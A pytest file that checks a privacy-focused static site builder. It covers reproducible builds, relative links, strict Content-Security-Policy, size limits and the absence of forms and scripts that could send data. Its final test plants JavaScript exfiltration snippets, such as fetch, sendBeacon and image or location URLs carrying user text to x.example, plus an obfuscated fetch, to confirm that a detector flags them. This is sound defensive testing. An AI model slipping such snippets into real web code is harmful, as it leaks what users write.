"""The static site: the same bytes each time, links that hold in any folder, small pages, and no script that could
send.
"""

from __future__ import annotations

import gzip
import re
import shutil
from html import unescape
from html.parser import HTMLParser
from pathlib import Path
from posixpath import dirname, normpath

import pytest

from afterwave.content.load import load
from afterwave.content.workshop import Workshop
from afterwave.errors import UnknownSection
from afterwave.refusals import NotOurs
from afterwave.server.site.build import build, files
from afterwave.server.site.single import single
from kit_workshop import kit_workshop
from sending import beyond, ways

PAGE, SCRIPTS, PRECACHE = 10_000, 15_600, 1_000_000  # bytes: the first two compressed, as they come over the wire

ALLOWED = {
    # Leaving replaces the page (in a single file with one from memory), clears what was kept, and leaves a random
    # number; what
    # opens a widget comes from beside the page; a button asks for the worker.
    "page": {
        "object address": 1,
        "navigation": 11,
        "address": 3,
        "storage": 9,
        "worker": 2,
        "source": 1,
        "element that loads": 1,
    },
    # Widgets and their styles come from beside the page.
    "open": {"address": 5, "source": 1, "element that loads": 2},
    # Words are downloaded from memory; kept where somebody ticks that they may be.
    "reflection": {"object address": 1, "address": 1, "storage": 1, "hidden name": 2},
    # A picture is downloaded from memory; kept where somebody ticks that it may be; one drawn line; somebody at the
    # device may print, which names the title.
    "card": {"object address": 1, "address": 1, "storage": 1, "hidden name": 2, "html": 1},
    # One drawn line.
    "breathing": {"html": 1},
    # The worker alone may ask: at its own host, for what the site is made of.
    "sw": {"fetch": 3, "navigation": 3, "storage": 4},
}
"""How often each shipped script may mention a way of `sending.WAYS`. To raise a number here is to have read the
line.
"""


@pytest.fixture(scope="module")
def two(tmp_path_factory: pytest.TempPathFactory, workshop: Workshop) -> Workshop:
    """Give the small workshop in two languages."""
    folder = tmp_path_factory.mktemp("two") / "content"
    shutil.copytree(workshop.folder, folder)
    shutil.copytree(folder / "en", folder / "de")
    head = folder / "workshop.yaml"
    head.write_text(head.read_text().replace("[en]", "[en, de]"))
    page = folder / "de" / "brewing.md"
    page.write_text(page.read_text().replace("Tea is a leaf.", "Tee ist ein Blatt."))
    return load(folder)


@pytest.fixture(scope="module")
def whole() -> dict[str, bytes]:
    """Give the site of the kit's own workshop."""
    return files(kit_workshop())


class Page(HTMLParser):
    """What a page names: its links, its ids, and every element with its attributes."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))

    @property
    def addresses(self) -> list[str]:
        named = ("href", "src", "data-widget", "data-style", "data-words", "data-worker", "data-module")
        return [facts[name] for _, facts in self.elements for name in named if facts.get(name)]

    @property
    def ids(self) -> set[str]:
        return {facts["id"] for _, facts in self.elements if "id" in facts}


def pages(site: dict[str, bytes]) -> dict[str, str]:
    return {name: body.decode() for name, body in site.items() if name.endswith(".html")}


def test_a_site_built_twice_is_the_same_to_the_byte(two: Workshop, tmp_path: Path) -> None:
    made = [build(two, tmp_path / name) for name in ("one", "other")]
    assert made[0] == made[1]
    assert [(tmp_path / "one" / name).read_bytes() for name in made[0]] == [
        (tmp_path / "other" / name).read_bytes() for name in made[1]
    ]


def test_every_link_is_relative_and_leads_to_a_file_and_a_place_in_it(two: Workshop) -> None:
    site = files(two)
    lost = []
    for name, text in pages(site).items():
        for address in Page(text).addresses:
            path, _, place = address.partition("#")
            if address.startswith(("data:", "tel:", "sms:")):
                continue
            target = normpath(f"{dirname(name)}/{path}") if path else name
            target = target.lstrip("/")
            if (
                address.startswith("/")
                or target not in site
                or (place and place not in Page(site[target].decode()).ids)
            ):
                lost.append(f"{name}: {address}")
    assert lost == []


def test_each_language_has_its_own_folder_and_leads_to_the_same_page_of_the_other(two: Workshop) -> None:
    site = pages(files(two))
    assert "Tee ist ein Blatt." in site["de/read/brewing.html"]
    assert "Tea is a leaf." in site["en/read/brewing.html"]
    assert '<a href="../../de/read/brewing.html"' in site["en/read/brewing.html"]
    assert {name.partition("/")[2] for name in site if name.startswith("de/")} == {
        name.partition("/")[2] for name in site if name.startswith("en/")
    }
    assert '<html lang="en"' in site["index.html"]


def test_every_page_forbids_its_browser_to_connect_and_has_a_discreet_title(two: Workshop) -> None:
    for name, text in pages(files(two)).items():
        assert re.findall("<title>(.*?)</title>", text) == [
            "Conversions" if name.endswith("conversions.html") else "Notes"
        ], name
        if not name.endswith("conversions.html"):
            policy = unescape(re.findall(r'Content-Security-Policy" content="([^"]*)"', text)[0])
            assert policy.startswith("default-src 'none'; ")
            assert {"connect-src 'none'", "form-action 'none'", "base-uri 'none'"} <= set(policy.split("; "))
            assert "unsafe" not in policy
            assert '<meta name="referrer" content="no-referrer">' in text


def test_no_page_holds_a_form_a_frame_or_a_script_of_its_own(whole: dict[str, bytes]) -> None:
    for name, text in pages(whole).items():
        for tag, facts in Page(text).elements:
            assert tag not in {"form", "iframe", "object", "embed", "img", "textarea", "base", "audio", "video"}, (
                name,
                tag,
            )
            assert not [
                attribute
                for attribute in facts
                if attribute.startswith("on") or attribute in {"ping", "action", "formaction", "style", "srcset"}
            ], (
                name,
                facts,
            )
            assert tag != "script" or facts["src"].startswith(("static/", "../static/", "../../static/"))
            assert tag != "link" or facts["rel"] in {"icon", "stylesheet"}


def test_a_poll_links_nowhere_and_says_that_groups_answer_it(two: Workshop) -> None:
    text = pages(files(two))["en/read/brewing.html"]
    assert "Which tea?" in text
    assert "In a group this is answered on phones, without names" in text
    assert "poll/" not in text


def test_a_facilitators_notes_are_on_no_page(two: Workshop) -> None:
    assert [name for name, text in pages(files(two)).items() if "It is a leaf." in text] == []


def test_a_line_that_nobody_has_called_is_marked_so(two: Workshop) -> None:
    text = pages(files(two))["en/support.html"]
    assert re.search(r"A listening line.*?not checked by us yet.*?A text line.*?checked", text, re.DOTALL)


def test_every_page_and_script_is_small_and_all_of_it_fits_a_slow_line(whole: dict[str, bytes]) -> None:
    packed = {name: len(gzip.compress(body, 9, mtime=0)) for name, body in whole.items()}
    assert {name: size for name, size in packed.items() if name.endswith(".html") and size > PAGE} == {}
    of_one_language = [
        name for name in packed if name.endswith(".js") and "/words-" not in name and name != "sw.js"
    ] + [max((name for name in packed if "/words-" in name), key=packed.__getitem__)]
    assert sum(packed[name] for name in of_one_language) <= SCRIPTS
    assert sum(map(len, whole.values())) <= PRECACHE


def test_the_worker_keeps_every_page_and_file(two: Workshop) -> None:
    site = files(two)
    listed = set(re.findall(r'"([^"]+\.(?:html|js|css))"', site["sw.js"].decode()))
    assert listed == set(site) - {"sw.js", "pages.txt"}


def test_a_change_on_any_page_is_a_new_build_for_the_worker(two: Workshop) -> None:
    other = two.model_copy(update={"title": "Coffee"})
    builds = [re.findall(r'BUILD = "(\w+)"', files(one)["sw.js"].decode())[0] for one in (two, two, other)]
    assert builds[0] == builds[1] != builds[2]


def test_a_site_replaces_an_earlier_one_and_leaves_no_old_page(two: Workshop, tmp_path: Path) -> None:
    build(two, tmp_path)
    (tmp_path / "mine.txt").write_text("keep me")
    shorter = two.model_copy(update={"sections": two.sections[:1]})
    build(shorter, tmp_path)
    assert not (tmp_path / "en" / "read" / "drinking.html").exists()
    assert (tmp_path / "mine.txt").read_text() == "keep me"


def test_a_folder_with_other_files_is_not_touched(two: Workshop, tmp_path: Path) -> None:
    (tmp_path / "index.html").write_text("mine")
    with pytest.raises(NotOurs):
        build(two, tmp_path)
    assert [file.name for file in tmp_path.iterdir()] == ["index.html"]


def test_one_section_in_one_file_needs_nothing_beside_it(two: Workshop) -> None:
    text = single(two, "brewing")
    page = Page(text)
    assert [
        address
        for address in page.addresses
        if not re.match(r"(#|data:|tel:|sms:|about:blank$)", address) and not re.fullmatch(r"[a-z]+\.js(on)?", address)
    ] == []
    assert [
        facts
        for tag, facts in page.elements
        if tag in {"script", "link"} and (facts.get("src") or facts.get("rel") == "stylesheet")
    ] == []
    assert {"sources", "support", "privacy", "leaving", "tea-warms"} <= page.ids
    assert {address[1:] for address in page.addresses if address.startswith("#")} <= page.ids
    assert single(two, "brewing") == text
    with pytest.raises(UnknownSection):
        single(two, "coffee")


def test_the_site_s_page_on_what_is_kept_says_which_version_of_which_words_this_is(
    whole: dict[str, bytes], workshop: Workshop
) -> None:
    kept = kit_workshop()
    assert f"<bdi>{kept.title}</bdi> · <bdi>{kept.version}</bdi>" in whole["en/privacy.html"].decode()
    assert "<bdi>" not in files(workshop)["en/privacy.html"].decode()


def test_no_script_of_the_site_could_send_what_somebody_writes(whole: dict[str, bytes]) -> None:
    scripts = {name: body.decode() for name, body in whole.items() if name.endswith(".js")}
    found = {
        name: beyond(text, ALLOWED.get(name.rpartition("/")[2].partition(".")[0], {}))
        for name, text in scripts.items()
        if "/words-" not in name
    }
    assert {name: lines for name, lines in found.items() if lines} == {}


def test_no_style_of_the_site_names_another_address(whole: dict[str, bytes]) -> None:
    for name, body in whole.items():
        if name.endswith(".css"):
            assert not re.search(r"url\(|@import|https?:|image-set|@font-face", body.decode()), name


@pytest.mark.parametrize(
    "planted",
    [
        "fetch('/x', {method: 'POST', body: words})",
        "navigator.sendBeacon('/x', words)",
        "new XMLHttpRequest()",
        "new WebSocket('wss://x.example')",
        "new EventSource(x)",
        "new RTCPeerConnection()",
        "new Image().src = '//x.example/?' + words",
        "document.createElement('form').submit()",
        "form.action = x; form.requestSubmit()",
        "location.href = 'https://x.example/?' + words",
        "window.open('https://x.example/?' + words)",
        "import('https://x.example/x.js')",
        "navigator.connection.type",
        "navigator.serviceWorker.controller.postMessage(words)",
        "new BroadcastChannel('x').postMessage(words)",
        "document.cookie = words",
        "localStorage.setItem('x', words)",
        "window['fe' + 'tch']('/x')",
        "box.insertAdjacentHTML('beforeend', '<img src=//x.example>')",
    ],
)
def test_the_search_for_what_could_send_finds_what_is_planted(planted: str, whole: dict[str, bytes]) -> None:
    assert ways(planted)
    page = next(body.decode() for name, body in whole.items() if name.startswith("static/page."))
    assert beyond(f"{page}\n{planted}\n", ALLOWED["page"])
